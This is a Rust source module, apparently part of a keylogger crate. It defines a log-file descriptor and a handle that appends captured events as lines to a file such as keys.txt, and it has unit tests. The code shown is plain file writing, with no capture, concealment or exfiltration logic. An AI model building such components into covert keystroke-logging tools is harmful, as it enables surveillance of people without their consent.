use crate::error::KeyloggerError;
use crate::event::CapturedEvent;
use crate::status::StatusSink;
use crate::KeyloggerResult;
use std::io;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;
use tokio::fs::{File, OpenOptions};
use tokio::io::{AsyncWriteExt, BufWriter};

/// How long an idle writer sleeps between queue checks.
pub const DEFAULT_FLUSH_INTERVAL: Duration = Duration::from_secs(1);

/// A log file and the access policy it is validated against.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SinkDescriptor {
    pub path: PathBuf,
    /// Truncate the file if it already exists. Otherwise an existing file is rejected.
    pub overwrite: bool,
    pub require_writable: bool,
    pub require_readable: bool,
    pub require_executable: bool,
    /// How long the writer sleeps between queue checks while there is nothing to write.
    pub flush_interval: Duration,
}

impl SinkDescriptor {
    pub fn new(path: impl Into<PathBuf>) -> Self {
        Self {
            path: path.into(),
            overwrite: false,
            require_writable: true,
            require_readable: false,
            require_executable: false,
            flush_interval: DEFAULT_FLUSH_INTERVAL,
        }
    }

    #[must_use]
    pub fn with_overwrite(mut self, overwrite: bool) -> Self {
        self.overwrite = overwrite;
        self
    }

    #[must_use]
    pub fn require_writable(mut self, required: bool) -> Self {
        self.require_writable = required;
        self
    }

    #[must_use]
    pub fn require_readable(mut self, required: bool) -> Self {
        self.require_readable = required;
        self
    }

    #[must_use]
    pub fn require_executable(mut self, required: bool) -> Self {
        self.require_executable = required;
        self
    }

    #[must_use]
    pub fn with_flush_interval(mut self, interval: Duration) -> Self {
        self.flush_interval = interval;
        self
    }
}

/// An open, validated log file. Owned by exactly one writer.
#[derive(Debug)]
pub(crate) struct SinkHandle {
    descriptor: SinkDescriptor,
    writer: BufWriter<File>,
    lines_written: u64,
}

impl SinkHandle {
    /// Open the (already validated) file in append mode.
    pub(crate) async fn open(descriptor: SinkDescriptor) -> io::Result<Self> {
        let file = OpenOptions::new()
            .append(true)
            .create(true)
            .open(&descriptor.path)
            .await?;

        Ok(Self {
            descriptor,
            writer: BufWriter::new(file),
            lines_written: 0,
        })
    }

    pub(crate) fn path(&self) -> &Path {
        &self.descriptor.path
    }

    pub(crate) fn descriptor(&self) -> &SinkDescriptor {
        &self.descriptor
    }

    pub(crate) fn lines_written(&self) -> u64 {
        self.lines_written
    }

    /// Append one line per event, in order, then flush.
    ///
    /// Each line is also echoed to `status`.
    pub(crate) async fn append(
        &mut self,
        events: &[Arc<CapturedEvent>],
        status: &dyn StatusSink,
    ) -> KeyloggerResult<()> {
        for ev in events {
            let line = ev.format_line();
            status.print(0, &line);

            self.writer
                .write_all(format!("{line}\n").as_bytes())
                .await
                .map_err(|e| self.write_error(e))?;
            self.lines_written += 1;
        }

        self.writer.flush().await.map_err(|e| self.write_error(e))
    }

    /// Flush the buffered lines and close the file.
    pub(crate) async fn close(mut self) -> KeyloggerResult<u64> {
        self.writer
            .shutdown()
            .await
            .map_err(|e| self.write_error(e))?;

        Ok(self.lines_written)
    }

    fn write_error(&self, source: io::Error) -> KeyloggerError {
        KeyloggerError::Write {
            path: self.descriptor.path.clone(),
            source,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::status::{Level, RecordingStatus};

    #[test]
    fn descriptor_defaults() {
        let d = SinkDescriptor::new("keys.txt");

        assert_eq!(d.path, PathBuf::from("keys.txt"));
        assert!(!d.overwrite);
        assert!(d.require_writable);
        assert!(!d.require_readable);
        assert!(!d.require_executable);
        assert_eq!(d.flush_interval, DEFAULT_FLUSH_INTERVAL);
    }

    #[tokio::test]
    async fn appends_lines_and_echoes_them() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("keys.txt");
        std::fs::write(&path, "existing\n").unwrap();
        let status = RecordingStatus::new();

        let mut sink = SinkHandle::open(SinkDescriptor::new(&path)).await.unwrap();
        let events = vec![
            Arc::new(CapturedEvent::now("A")),
            Arc::new(CapturedEvent::now("B")),
        ];
        sink.append(&events, &status).await.unwrap();
        assert_eq!(sink.close().await.unwrap(), 2);

        let expected = format!(
            "existing\n{}\n{}\n",
            events[0].format_line(),
            events[1].format_line()
        );
        assert_eq!(std::fs::read_to_string(&path).unwrap(), expected);
        assert_eq!(
            status.messages(Level::Normal),
            vec![events[0].format_line(), events[1].format_line()]
        );
    }
}
